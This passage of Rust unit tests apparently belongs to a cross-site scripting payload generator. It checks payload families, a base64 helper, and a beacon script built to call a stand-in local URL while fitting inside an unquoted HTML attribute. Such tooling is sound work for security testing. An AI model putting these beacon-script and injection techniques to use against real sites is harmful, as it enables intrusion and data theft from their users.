            assert!(corpus.families().contains(&family), "no {family} payloads");
        }
    }

    #[test]
    fn the_script_fits_an_unquoted_attribute() {
        let js = script_for("http://127.0.0.1:9/beacon", "x0001");
        assert!(!js.contains([' ', '"', '\'', '<', '>', '&']), "{js}");
    }

    #[test]
    fn base64_matches_the_standard() {
        assert_eq!(base64(b""), "");
        assert_eq!(base64(b"f"), "Zg==");
        assert_eq!(base64(b"fo"), "Zm8=");
        assert_eq!(base64(b"foo"), "Zm9v");
        assert_eq!(base64(b"<script>"), "PHNjcmlwdD4=");
    }
}
